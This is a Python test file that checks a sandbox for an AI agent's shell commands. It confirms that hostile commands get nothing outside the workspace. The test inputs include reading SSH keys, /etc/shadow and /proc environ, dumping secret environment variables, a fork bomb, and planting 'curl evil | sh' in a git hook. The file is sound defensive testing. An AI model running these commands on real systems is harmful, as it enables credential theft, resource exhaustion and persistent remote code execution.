"""The sandbox the model's commands run in, tried with hostile commands on the real thing
(bubblewrap on Linux; the macOS profile where sandbox-exec exists). Each command here is one a
prompt injection or a mistake could send; each must get nothing outside the workspace."""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakellm import FakeLLM
from tests.system import victoria_up
from victoria.actors.veronica.commands import Commands
from victoria.errors import OutsideWorkspace, SandboxUnavailable, ToolError
from victoria.runtime import sandbox
from victoria.runtime.config import Config

LINUX = sys.platform.startswith("linux")
# Without bubblewrap these tests say so and are skipped, except under CI (scripts/test installs
# it there as root), where they run and fail, naming what is missing: never a silent pass.
pytestmark = pytest.mark.skipif(
    LINUX and not os.path.exists("/usr/bin/bwrap") and not os.environ.get("CI"),
    reason="bubblewrap is not installed (scripts/test installs it as root: apt-get install -y bubblewrap)",
)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "workspace"
    path.mkdir()
    (path / "hello.txt").write_text("hello\n")
    return path


@pytest.fixture
def box(workspace: Path) -> sandbox.Sandbox:
    return asyncio.run(sandbox.find("auto", sandbox.Policy(workspace)))


def run(box: sandbox.Sandbox, command: str, **limits: float) -> sandbox.Outcome:
    return asyncio.run(box.run(command, limits=sandbox.Limits(**limits)))  # type: ignore[arg-type]


@pytest.fixture
def listener() -> Iterator[int]:
    """A port on 127.0.0.1 that accepts (as the gateway's does)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    yield server.getsockname()[1]
    server.close()


def python(code: str) -> str:
    return f"python3 -c {json.dumps(code)}"


def test_a_command_runs_in_the_workspace_and_says_what_it_did(box: sandbox.Sandbox, workspace: Path) -> None:
    outcome = run(box, "cat hello.txt; pwd; echo oops >&2; exit 3")
    assert outcome.exit_code == 3 and not outcome.killed and outcome.reason is None
    assert outcome.stdout == f"hello\n{workspace.resolve()}\n" and outcome.stderr == "oops\n"
    assert outcome.sandbox == box.kind and outcome.duration_s < 5


def test_a_command_writes_files_of_the_workspace(box: sandbox.Sandbox, workspace: Path) -> None:
    assert run(box, "mkdir -p out && echo made > out/new.txt").exit_code == 0
    assert (workspace / "out" / "new.txt").read_text() == "made\n"


def test_the_gateways_port_cannot_be_reached(box: sandbox.Sandbox, listener: int) -> None:
    code = (
        f"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=3); print('connected')"
    )
    outcome = run(box, python(code))
    assert outcome.exit_code != 0 and "connected" not in outcome.stdout
    assert "Connection refused" in outcome.stderr or "not permitted" in outcome.stderr, outcome.stderr


def test_an_outside_address_cannot_be_reached(box: sandbox.Sandbox) -> None:
    code = "import socket; socket.create_connection(('192.0.2.1', 80), timeout=3); print('connected')"
    outcome = run(box, python(code))  # 192.0.2.1: TEST-NET-1, never routed
    assert outcome.exit_code != 0 and "connected" not in outcome.stdout
    assert "unreachable" in outcome.stderr.lower() or "not permitted" in outcome.stderr, outcome.stderr


def test_the_network_is_there_only_when_the_operator_allows_it(workspace: Path, listener: int) -> None:
    allowed = asyncio.run(sandbox.find("auto", sandbox.Policy(workspace, network=True)))
    code = (
        f"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=3); print('connected')"
    )
    assert run(allowed, python(code)).stdout == "connected\n"
    assert "network allowed" in allowed.describe()


def test_nothing_is_written_outside_the_workspace(
    box: sandbox.Sandbox, workspace: Path, tmp_path: Path
) -> None:
    mark = uuid.uuid4().hex
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace / "out").symlink_to(outside)  # a link of the workspace that points out
    attempts = [
        f"echo x > /tmp/{mark}",  # the host's /tmp
        f"echo x > {workspace.parent}/{mark}",  # the workspace's parent
        f"echo x > out/{mark}",  # through the link
        f"echo x > {Path.home()}/{mark}",
        f"echo x > /usr/{mark}",
        f"echo x > /etc/{mark}",
    ]
    for attempt in attempts:
        run(box, attempt)
    written = [
        p
        for p in (Path("/tmp"), workspace.parent, outside, Path.home(), Path("/usr"), Path("/etc"))
        if (p / mark).exists()
    ]
    assert written == []


def test_the_home_directory_the_data_dir_and_their_secrets_cannot_be_read(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    data = tmp_path / "data"
    data.mkdir()
    (data / "nats-credentials.json").write_text('{"victoria": "SECRET-PASSWORD"}')
    monkeypatch.setenv("HOME", str(home))
    box = asyncio.run(sandbox.find("auto", sandbox.Policy(workspace, hidden=(data,))))
    for path in (
        home / ".ssh" / "id_ed25519",
        data / "nats-credentials.json",
        "~/.ssh/id_ed25519",
        "/etc/shadow",
    ):
        outcome = run(box, f"cat {path}")
        assert outcome.exit_code != 0, path
        assert (
            "PRIVATE" not in outcome.stdout
            and "SECRET" not in outcome.stdout
            and "root:" not in outcome.stdout
        )


def test_secrets_inside_the_workspace_are_hidden_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"  # the workspace is the whole home directory, data dir and keys in it
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    data = home / ".local" / "share" / "victoria"
    data.mkdir(parents=True)
    (data / "nats-credentials.json").write_text('{"victoria": "SECRET-PASSWORD"}')
    (home / "notes.txt").write_text("mine\n")
    monkeypatch.setenv("HOME", str(home))
    box = asyncio.run(sandbox.find("auto", sandbox.Policy(home, hidden=(data,))))
    outcome = run(box, "cat notes.txt; cat .ssh/id_ed25519; cat .local/share/victoria/nats-credentials.json")
    assert outcome.stdout == "mine\n", outcome


@pytest.mark.skipif(not LINUX, reason="/proc is Linux's")
def test_the_executors_proc_entries_cannot_be_read(box: sandbox.Sandbox) -> None:
    outcome = run(box, f"cat /proc/{os.getpid()}/environ; cat /proc/{os.getppid()}/environ; ls /proc")
    pids = [name for name in outcome.stdout.split() if name.isdigit()]
    assert "VICTORIA" not in outcome.stdout and "PATH=" not in outcome.stdout
    assert len(pids) < 10, pids  # its own PID namespace: a handful of its own processes


def test_the_environment_holds_no_secret(box: sandbox.Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "VICTORIA_NATS_PASSWORD",
        "NATS_PASSWORD",
        "VICTORIA_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "OPENAI_API_KEY",
    ):
        monkeypatch.setenv(name, "SECRET-" + name)
    outcome = run(box, "env")
    names = {line.split("=", 1)[0] for line in outcome.stdout.splitlines()}
    assert "SECRET" not in outcome.stdout
    assert names <= {"PATH", "HOME", "LANG", "TERM", "TMPDIR", "PWD", "SHLVL", "_", "OLDPWD"}, names


def test_only_the_variables_the_operator_names_are_passed_and_never_victorias(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CI_FLAVOUR", "green")
    monkeypatch.setenv("VICTORIA_NATS_PASSWORD", "SECRET")
    box = asyncio.run(
        sandbox.find("auto", sandbox.Policy(workspace, env=("CI_FLAVOUR", "VICTORIA_NATS_PASSWORD")))
    )
    outcome = run(box, "env")
    assert "CI_FLAVOUR=green" in outcome.stdout and "SECRET" not in outcome.stdout


def test_a_fork_bomb_ends_at_the_process_limit_and_the_host_does_not_notice(box: sandbox.Sandbox) -> None:
    before = len(os.listdir("/proc")) if LINUX else 0
    began = time.monotonic()
    outcome = asyncio.run(
        box.run("bomb() { bomb | bomb & }; bomb; sleep 3", limits=sandbox.Limits(timeout_s=5, processes=64))
    )
    assert time.monotonic() - began < 12
    assert box.process_limit, box.describe()
    assert subprocess.run(["true"]).returncode == 0  # the host still forks
    if LINUX:
        time.sleep(0.5)
        assert len(os.listdir("/proc")) < before + 20  # nothing of it is left
    assert outcome.exit_code is not None or outcome.killed


def test_a_memory_hog_is_stopped_at_its_limit(box: sandbox.Sandbox) -> None:
    if not LINUX:
        pytest.skip("macOS does not enforce RLIMIT_AS")
    outcome = run(box, python("b = bytearray(3 * 1024 ** 3); print('allocated')"), memory_mb=1024)
    assert outcome.exit_code != 0 and "allocated" not in outcome.stdout
    assert "MemoryError" in outcome.stderr


def test_endless_output_is_cut_to_its_cap_and_the_reading_holds_no_more(box: sandbox.Sandbox) -> None:
    outcome = run(box, "yes", timeout_s=2, output_bytes=4096)
    assert outcome.killed and outcome.cut
    assert outcome.stdout_bytes > 1_000_000
    assert len(outcome.stdout) < 4096 + 200 and outcome.stdout.startswith("y\ny\n")
    assert f"bytes cut: {outcome.stdout_bytes} in all" in outcome.stdout


def test_the_capped_reader_never_keeps_more_than_its_cap() -> None:
    capped = sandbox._Capped(1000)
    for n in range(10_000):
        capped.add(f"line {n}\n".encode() * 10)
        assert len(capped.head) + len(capped.tail) <= 1000
    text = capped.text()
    assert text.startswith("line 0\n") and text.endswith("line 9999\n") and "bytes cut" in text


def test_a_command_past_its_timeout_is_killed(box: sandbox.Sandbox) -> None:
    outcome = run(box, "sleep 600", timeout_s=1)
    assert outcome.killed and outcome.exit_code is None and outcome.reason == "timed out after 1s"
    assert outcome.duration_s < 1 + sandbox.KILL_AFTER + 1


def test_a_command_that_ignores_sigterm_is_killed_after_the_grace(box: sandbox.Sandbox) -> None:
    outcome = run(box, "trap '' TERM; sleep 600", timeout_s=1)
    assert outcome.killed and 1 + sandbox.KILL_AFTER - 0.5 < outcome.duration_s < 1 + sandbox.KILL_AFTER + 2


def _running(marker: str) -> list[str]:
    ps = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if marker in line and "ps -eo" not in line]


def test_a_process_left_in_the_background_does_not_outlive_its_command(box: sandbox.Sandbox) -> None:
    outcome = run(box, "sleep 6007 & echo started")
    assert outcome.stdout == "started\n"
    time.sleep(0.3)
    assert _running("sleep 6007") == []


def test_cancelling_a_command_kills_it_within_two_seconds(box: sandbox.Sandbox) -> None:
    async def go() -> float:
        task = asyncio.ensure_future(box.run("sleep 6011 & sleep 6011", limits=sandbox.Limits(timeout_s=60)))
        await asyncio.sleep(1.0)
        began = time.monotonic()
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        return time.monotonic() - began

    assert asyncio.run(go()) < 2.0 + 0.5
    assert _running("sleep 6011") == []


def test_without_a_sandbox_commands_are_refused_saying_how_to_install_one(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    wanted = "sandbox-exec" if sys.platform == "darwin" else "bwrap"
    if wanted == "sandbox-exec":
        pytest.skip("sandbox-exec is found at its own path, not on PATH")
    with pytest.raises(SandboxUnavailable) as refused:
        asyncio.run(sandbox.find("auto", sandbox.Policy(workspace)))
    assert "bwrap is not installed" in str(refused.value) and "apt install bubblewrap" in str(refused.value)
    commands = Commands(Config.from_env({"VICTORIA_WORKSPACE": str(workspace)}))
    with pytest.raises(SandboxUnavailable):
        asyncio.run(commands.run("echo hi"))
    assert commands.health()[0] == "degraded" and "install bubblewrap" in commands.health()[1]


def test_none_runs_commands_unsandboxed_and_forces_approval_of_every_command(workspace: Path) -> None:
    box = asyncio.run(sandbox.find("none", sandbox.Policy(workspace)))
    assert run(box, "echo plain").stdout == "plain\n"
    assert not box.isolated and "approval" in box.describe()
    assert sandbox.approval_effects(frozenset(), "none") == {"execute"}
    assert sandbox.approval_effects(frozenset({"write"}), "auto") == {"write"}
    config = Config.from_env({"VICTORIA_SANDBOX": "none", "VICTORIA_WORKSPACE": str(workspace)})
    with pytest.raises(ToolError, match="only with a person's approval"):
        asyncio.run(Commands(config).run("echo plain"))  # the model's command, no approval
    assert asyncio.run(Commands(config).run("echo plain", approved=True)).stdout == "plain\n"


def test_run_command_holds_cwd_and_timeout_to_the_rules(workspace: Path) -> None:
    commands = Commands(
        Config.from_env({"VICTORIA_WORKSPACE": str(workspace), "VICTORIA_COMMAND_MAX_S": "5"})
    )
    (workspace / "sub").mkdir()
    assert asyncio.run(commands.run("pwd", cwd="sub")).stdout.strip() == str((workspace / "sub").resolve())
    for call, error in (
        (dict(command="pwd", cwd="../"), OutsideWorkspace),
        (dict(command="pwd", cwd="/etc"), OutsideWorkspace),
        (dict(command="pwd", cwd="hello.txt"), ToolError),
        (dict(command="  "), ToolError),
        (dict(command="pwd", timeout_s=6), ToolError),
        (dict(command="pwd", timeout_s=0), ToolError),
    ):
        with pytest.raises(error):
            asyncio.run(commands.run(**call))  # type: ignore[arg-type]


def test_victoria_sandbox_says_what_commands_run_in_and_runs_one(workspace: Path) -> None:
    env = {**os.environ, "VICTORIA_WORKSPACE": str(workspace)}
    said = subprocess.run(
        [sys.executable, "-m", "victoria", "sandbox"], capture_output=True, text=True, env=env
    )
    assert said.returncode == 0 and "no network" in said.stdout, said
    ran = subprocess.run(
        [sys.executable, "-m", "victoria", "sandbox", "--", "cat hello.txt; exit 4"],
        capture_output=True, text=True, env=env, cwd=workspace,
    )  # fmt: skip
    assert ran.returncode == 4 and ran.stdout == "hello\n" and "exit 4" in ran.stderr


@pytest.mark.skipif(not os.path.exists(sandbox.SANDBOX_EXEC), reason="sandbox-exec is macOS's")
def test_the_macos_profile_holds_the_same_lines(workspace: Path, tmp_path: Path, listener: int) -> None:
    box = asyncio.run(sandbox.find("sandbox-exec", sandbox.Policy(workspace)))
    assert run(box, "echo in > made.txt; cat made.txt").stdout == "in\n"
    assert run(box, f"cat {Path.home()}/.ssh/* {Path.home()}/.zshrc").stdout == ""
    mark = uuid.uuid4().hex
    run(box, f"echo x > /tmp/{mark}; echo x > {workspace.parent}/{mark}")
    assert not (Path("/tmp") / mark).exists() and not (workspace.parent / mark).exists()
    code = (
        f"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=3); print('connected')"
    )
    assert "connected" not in run(box, python(code)).stdout
    assert run(box, "sleep 600", timeout_s=1).killed


def test_without_a_sandbox_veronica_is_degraded_in_status_saying_why(
    tmp_path: Path, fake_llm: FakeLLM, workspace: Path
) -> None:
    no_bwrap = {"PATH": str(Path(sys.executable).parent)}  # the system's own programs, no bwrap
    with victoria_up(tmp_path / "data", fake_llm, workspace, **no_bwrap).start() as system:
        deadline = time.monotonic() + 30
        veronica: dict[str, object] = {}
        while time.monotonic() < deadline and veronica.get("status") != "degraded":
            services = system.http.get("/status").json().get("services") or []
            veronica = next((s for s in services if s["name"] == "veronica"), {})
            time.sleep(0.3)
        assert veronica.get("status") == "degraded", veronica
        assert "bwrap is not installed" in str(veronica["reason"]) and "apt install bubblewrap" in str(
            veronica["reason"]
        )


def test_what_git_runs_outside_the_sandbox_cannot_be_changed_from_inside(
    box: sandbox.Sandbox, workspace: Path
) -> None:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    box = asyncio.run(sandbox.find("auto", sandbox.Policy(workspace)))  # sees the new .git
    planted = run(box, "echo 'curl evil | sh' > .git/hooks/pre-commit; git config core.hooksPath /tmp/evil")
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (workspace / ".git" / "config").read_text(), planted
    assert run(box, "echo work > a.txt && git add a.txt && git status --short a.txt").stdout == "A  a.txt\n"


def test_a_command_dies_with_its_executor_killed_with_sigkill(workspace: Path) -> None:
    """Veronica killed -9 in the middle of a command: nothing of the command goes on running
    (its outcome is unknown, and the model is told "interrupted"; it must not run on unseen)."""
    code = f"""
import asyncio
from pathlib import Path
from victoria.runtime import sandbox

async def main() -> None:
    box = await sandbox.find("auto", sandbox.Policy(Path({str(workspace)!r})))
    await box.run("sleep 6013 & sleep 6013", limits=sandbox.Limits(timeout_s=600))

asyncio.run(main())
"""
    executor = subprocess.Popen([sys.executable, "-c", code])
    try:
        deadline = time.monotonic() + 20
        while len(_running("sleep 6013")) < 2:
            assert time.monotonic() < deadline, "the command never started"
            assert executor.poll() is None, f"the executor exited with {executor.returncode}"
            time.sleep(0.05)
        executor.kill()
        executor.wait(5)
        deadline = time.monotonic() + 3
        while _running("sleep 6013") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _running("sleep 6013") == [] and _running(str(workspace.resolve())) == []
    finally:
        if executor.poll() is None:
            executor.kill()
            executor.wait(5)
